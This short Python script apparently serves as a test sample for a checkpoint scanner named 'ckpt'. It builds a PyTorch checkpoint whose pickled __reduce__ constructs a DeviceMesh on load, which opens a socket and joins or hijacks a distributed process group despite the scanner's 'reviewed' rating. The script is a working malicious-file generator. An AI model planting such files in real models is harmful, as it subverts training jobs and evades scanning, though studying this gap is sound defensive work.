"""torch.distributed.device_mesh.DeviceMesh is in ckpt's "reviewed" tier (harmless to construct,
CKPT004 offers add_safe_globals for it), but REDUCE DeviceMesh("cpu", [0]) runs
DeviceMesh.__init__, which calls torch.distributed.init_process_group(): in any process that has
the usual launcher variables (torchrun sets RANK/WORLD_SIZE/MASTER_ADDR/MASTER_PORT) loading the
file opens a TCP store socket and joins (or hijacks) the default process group."""
import sys

import torch
from torch.distributed.device_mesh import DeviceMesh

out = sys.argv[1] if len(sys.argv) > 1 else "model.pt"

class Mesh:
    def __reduce__(self):
        return (DeviceMesh, ("cpu", [0]))

torch.save({"weight": torch.zeros(2), "mesh": Mesh()}, out)
print("wrote", out)
